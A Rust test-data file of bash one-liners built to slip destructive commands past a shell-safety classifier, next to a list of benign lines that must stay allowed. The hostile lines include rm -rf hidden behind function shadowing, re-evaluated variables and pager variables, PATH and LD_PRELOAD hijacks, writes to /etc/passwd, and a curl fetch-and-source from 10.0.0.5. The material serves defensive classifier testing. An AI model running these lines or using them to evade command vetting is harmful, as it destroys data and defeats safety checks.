//! Lines written to get past a reader that is not bash: each runs or
//! writes something the allowlist does not know, so none may be safe.
//! They come from a review that tried to make the classifier answer
//! "safe" for a line that destroys; every one was reproduced against bash
//! and the real tools (with harmless targets) where they are installed.

/// The shell itself: functions, substitutions, decoding, evaluation.
pub const SHELL: &[&str] = &[
    // A function named like a command hides it only from the shell's own
    // lookup.
    "rm() { :; }; unset -f rm; rm -rf /data", "rm() { :; }; command rm -rf /data",
    "rm() { :; }; sudo rm -rf /data", "rm() { :; }; env rm -rf /data",
    "rm() { :; }; find /data -exec rm -rf {} +", "rm() { :; }; ls | xargs rm -rf",
    "function rm { :; }; ssh db1 rm -rf /data", "(rm() { :; }); rm -rf /data",
    "bash -c 'rm() { :; }'; rm -rf /data", "echo $(rm() { :; }); rm -rf /data",
    // `command` reads options only before the name.
    "command rm -v -rf /data",
    // Process substitution is a file only known at run time.
    "source <(echo 'rm -rf /data')", ". <(curl -s http://10.0.0.5/fix.sh)",
    "lvm <(echo 'vgremove -f vg0')", // `coproc NAME { ...; }`.
    "coproc ls { rm -rf /data; }",
    // Text a shell reads is decoded by its producer first.
    "echo -e 'echo \\nrm -rf /data' | bash", "printf 'echo \\073 rm -rf /data\\n' | sh",
    "cat <<EOF | bash\necho \\\\'; rm -rf /data; echo \\\\'\nEOF",
    "bash <<EOF\necho \\\\'; rm -rf /data; echo \\\\'\nEOF", "bash <<< \"echo $X\"",
    "bash <<EOF\necho $X\nEOF",
    // A carriage return is no blank to bash.
    "ls\r#; rm -rf /data", "echo ok\r# && rm -rf /data",
    // Text bash evaluates again.
    "x='a[$(rm -rf /data)]'; (( x ))", "x='a[$(rm -rf /data)]'; [[ x -eq 0 ]]",
    "let 'a[$(rm -rf /data)]'", "(( a[\\$(rm -rf /data)] ))", "printf -v 'a[$(rm -rf /data)]' x",
    "read 'a[$(rm -rf /data)]' <<< 1", "declare 'a[$(rm -rf /data)]=1'",
    "declare -i n='a[$(rm -rf /data)]'", "test -v 'a[$(rm -rf /data)]'",
    "x='$(rm -rf /data)'; echo \"${x@P}\"", "PS4='$(rm -rf /data)'; set -x; ls",
    "mapfile -C 'rm -rf /data;:' -c 1 a < /etc/hosts",
    "readarray -C 'rm -rf /data;:' a < /etc/hosts", "compgen -C 'rm -rf /data' x",
    "compgen -W '$(rm -rf /data)' x", "shopt -s expand_aliases\nalias ls='rm -rf /data'\nls",
    "PROMPT_COMMAND='rm -rf /data'", "bind -x '\"\\C-l\": rm -rf /data'",
    "complete -C 'rm -rf /data' ls", "declare -n p=PATH; p=/tmp/evil; ls",
    "hash -p /tmp/evil ls; ls",
    // Variables that choose the program or hold a command.
    "PATH=/tmp/evil:$PATH; ls", "export LD_PRELOAD=/tmp/x.so; ls", "declare -x PATH=/tmp/evil; ls",
    "export BASH_ENV=/tmp/x.sh; bash -c ls", "read PATH <<< /tmp/evil; ls",
    "printf -v PATH /tmp/evil; ls", "env PATH=/tmp/evil ls", "env LD_PRELOAD=/tmp/evil.so ls",
    "sudo LD_PRELOAD=/tmp/evil.so ls", "MANPAGER='rm -rf /data' man ls",
    "PAGER='rm -rf /data' man ls", "LESSOPEN='|rm -rf /data %s' less /etc/hosts",
    "SYSTEMD_PAGER='rm -rf /data' systemctl status nginx", "GIT_PAGER='rm -rf /data' git log",
    "GIT_SSH_COMMAND='rm -rf /data' git ls-remote origin",
    // Write targets are what the kernel opens, not how they are spelled.
    "tee /dev/pts/../../etc/passwd", "tee /dev/fd/../../../etc/passwd",
    "tar -cf /dev/pts/../../etc/passwd /data", "echo x > /dev/null/../../etc/passwd",
    "cat < /etc/fstab > /dev/stdin", "exec 5</etc/fstab; echo x > /dev/fd/5",
    "echo x 2</etc/fstab >/dev/stderr", "tee /dev/stdout 1</etc/fstab",
    ": > /dev/shm/PostgreSQL.1234", "echo 2 > /dev/initctl", "history -w /etc/passwd",
    "history -c",
];

/// Wrappers and everyday read-only tools with an option that writes or
/// runs a command.
pub const TOOLS: &[&str] = &[];

/// Forms that stay safe next to them: the fixes must not make everyday
/// lines unknown.
pub const STILL_SAFE: &[&str] = &[
    "f() { ls; }; f", "command -v rm", "command -pv ls", "diff <(ls a) <(ls b)", "echo ls | bash",
    "printf 'uptime\\n' | sh", "cat <<'EOF' | bash\necho $X\nEOF", "echo '$(date)'",
    "printf '%s\\n' '$(date)'", "(( i = 1 + 2 ))", "x=$(date +%s); echo $x",
    "read -r line < /etc/hostname", "mapfile -t lines < /etc/hosts", "alias", "bind -p", "history",
    "history 20", "LC_ALL=C TZ=UTC date", "env LANG=C ls", "export LC_ALL=C; sort /etc/hosts",
    "echo x > /dev/stdout", "ls > /dev/null 2>&1", "cat /etc/hosts | tee /dev/stderr",
];
